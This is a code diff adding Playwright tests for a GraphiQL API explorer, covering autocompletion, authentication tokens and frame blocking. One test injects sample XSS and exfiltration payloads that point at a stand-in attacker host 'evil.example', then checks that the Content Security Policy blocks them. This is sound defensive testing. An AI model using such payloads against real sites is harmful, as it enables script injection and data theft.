@@ -6,6 +6,7 @@ import { exampleQueries } from '../../api/example-queries.ts';
 import { runAgent } from '../support/agent-process.ts';
 import { type ApiProcess, startApi } from '../support/api-process.ts';
 import { describeIf } from '../support/needs.ts';
+import { node, run } from '../support/process.ts';
 import { temporaryFolder } from '../support/temporary-folder.ts';
 
 const executablePath = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find(
@@ -181,6 +182,97 @@ describeIf(executablePath !== undefined, needed, 'in chromium, with no internet'
     await page.getByRole('button', { name: /show documentation explorer/i }).click();
     await page.getByRole('link', { name: 'Query' }).or(page.getByText('Query').first()).first().waitFor();
     expect(await page.locator('.graphiql-doc-explorer').textContent()).toContain('Query');
+  });
+
+  test('its explorer shows the query as a tree', async () => {
+    await page.getByRole('button', { name: /show graphiql explorer/i }).click();
+    await page.locator('.docExplorerWrap').getByText('reports', { exact: true }).first().waitFor();
+    if (process.env.UPDATE_SCREENSHOTS)
+      await page.screenshot({ path: `${process.env.UPDATE_SCREENSHOTS}/explorer.png` });
+    await page.getByRole('button', { name: /hide graphiql explorer/i }).click();
+  });
+
+  test('it completes what is typed, marks what is wrong, and a new tab runs what stands there', async () => {
+    await page.getByRole('button', { name: /new tab/i }).click();
+    await page.locator('.graphiql-editor .view-lines').first().click();
+    await page.keyboard.press('Control+A');
+    await page.keyboard.type('{ factSt');
+    const offered = page.locator('.suggest-widget .monaco-list-row');
+    // Asked for again, as the language worker may still be on its way.
+    while (!(await offered.filter({ hasText: 'factStats' }).count())) {
+      await page.keyboard.press('Control+Space');
+      await offered.first().waitFor();
+    }
+    if (process.env.UPDATE_SCREENSHOTS)
+      await page.screenshot({ path: `${process.env.UPDATE_SCREENSHOTS}/completion.png` });
+    await page.keyboard.press('Escape');
+    await page.keyboard.press('Control+A');
+    await page.keyboard.type('{ nothing ');
+    await page.locator('.squiggly-error').first().waitFor();
+    await page.keyboard.press('Control+A');
+    await page.keyboard.type('query Typed { __typename ');
+    await page.keyboard.press('Control+Enter');
+    await page.locator('.result-window').getByText('"Query"').first().waitFor();
+    await page.getByRole('tab', { name: 'Typed' }).waitFor();
+  });
+
+  test('runs no script and asks no address but its own, whatever is put into it', async () => {
+    const attacked = await browser.newPage();
+    await attacked.goto(api.url);
+    await attacked.getByText('query FirstLook').first().waitFor();
+    const refused = await attacked.evaluate(async () => {
+      const told: string[] = [];
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+        told.push(effectiveDirective);
+      });
+      const add = (tag: string, properties: object) =>
+        document.body.append(Object.assign(document.createElement(tag), properties));
+      add('script', { textContent: 'window.injected = true' });
+      add('script', { src: 'https://evil.example/x.js' });
+      add('script', { src: '/graphql?query=script' });
+      add('img', { src: 'https://evil.example/?what=is-shown' });
+      add('iframe', { src: 'https://evil.example/' });
+      add('div', { innerHTML: '<img src="data:," onerror="window.injected = true">' });
+      add('base', { href: 'https://evil.example/' });
+      await fetch('https://evil.example/').catch(() => {});
+      while (new Set(told).size < 6) await new Promise((resolve) => setTimeout(resolve, 20));
+      return { told: [...new Set(told)].sort(), injected: 'injected' in window };
+    });
+    expect(refused).toEqual({
+      told: ['base-uri', 'connect-src', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem'],
+      injected: false,
+    });
+    await attacked.close();
+  });
+
+  test('asks for a token where one is needed, and asks with it from then on', async () => {
+    const own = await temporaryFolder();
+    const args = ['api/main.ts', 'token', 'create', '--name', 'operator', '--scope', 'read'];
+    const made = await run(node, args, { env: { BUCKET_URL: `file:${own}/bucket` } });
+    expect(made.code).toBe(0);
+    const closed = await startApi(own, { env: { AUTH: 'required' } });
+    const open = async (password: string) => {
+      const context = await browser.newContext({ httpCredentials: { username: 'anybody', password } });
+      const tab = await context.newPage();
+      const response = await tab.goto(closed.url);
+      return { tab, status: response?.status() };
+    };
+    expect((await open('osi_t_wrong')).status).toBe(401);
+    const { tab, status } = await open(made.stdout.trim());
+    expect(status).toBe(200);
+    await tab.getByRole('tab', { name: 'Plugins' }).click();
+    await tab.waitForURL(/query=.*Plugins/s);
+    await tab.getByRole('button', { name: /execute query/i }).click();
+    await tab.locator('.result-window').getByText('"plugins"').first().waitFor();
+    await tab.context().close();
+  });
+
+  test('is in no frame of another page', async () => {
+    const framing = await browser.newPage();
+    await framing.setContent(`<iframe src="${api.url}"></iframe>`);
+    const frame = await (await framing.waitForSelector('iframe')).contentFrame();
+    await frame?.waitForURL(/chrome-error:/);
+    await framing.close();
   });
 
   test('asks no other host for anything, and has no errors', () => {
